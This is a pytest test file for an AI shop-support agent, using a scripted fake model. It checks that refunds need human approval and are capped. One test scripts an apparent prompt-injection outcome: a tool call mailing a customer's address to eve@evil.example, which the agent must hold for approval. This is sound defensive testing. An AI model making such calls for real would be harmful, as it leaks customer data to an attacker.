"""Tests of the desk: no model, no network. Run them with pytest."""

from pathlib import Path

import pytest

import rightcall as rc
import store
from desk import make_desk
from rightcall.testing import ScriptedModel, call, reply

FIND = reply(call("find_order", number=17))
REFUND = reply(call("refund", number=17, cents=4200))


@pytest.fixture(autouse=True)
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    store.fill()


def rows(table: str) -> list[tuple[object, ...]]:
    with store.connect() as database:
        return [tuple(row) for row in database.execute(f"select * from {table}")]


def test_a_refund_waits_for_a_person_and_is_paid_once() -> None:
    model = ScriptedModel([FIND, REFUND, "It is refunded."])
    desk = make_desk(model, journal=rc.record.MemoryJournal())
    waiting = desk.run_sync("Refund order 17.", run="a")
    assert waiting.stop.reason == "pending"
    assert rows("refunds") == []

    yes = {waiting.pending[0].call_id: True}
    result = desk.resume_sync(waiting, yes)
    assert desk.resume_sync(waiting, yes).text == result.text == "It is refunded."
    assert rows("refunds") == [("a.t2.0.refund", 17, 4200)]
    model.assert_finished()


def test_no_more_is_refunded_than_was_paid() -> None:
    model = ScriptedModel([reply(call("refund", number=17, cents=999_999)), "I cannot."])
    desk = make_desk(model)
    waiting = desk.run_sync("Refund order 17.")
    result = desk.resume_sync(waiting, {waiting.pending[0].call_id: True})
    assert result.calls[0].outcome == "failed"
    assert "only 4200 cents left" in result.calls[0].result.text


def test_a_mail_cannot_say_where_mail_goes() -> None:
    to_eve = reply(call("send_mail", to="eve@evil.example", body="bob@example.com"))
    to_bob = reply(call("send_mail", to="bob@example.com", body="It is on its way."))
    read, find = reply(call("read_mail", number=2)), reply(call("find_order", number=18))
    desk = make_desk(ScriptedModel([read, find, to_bob, to_eve]))

    result = desk.run_sync("Answer mail 2 about order #18.")
    assert [each.arguments["to"] for each in result.pending] == ["eve@evil.example"]
    assert rows("outbox") == [("bob@example.com", "It is on its way.")]
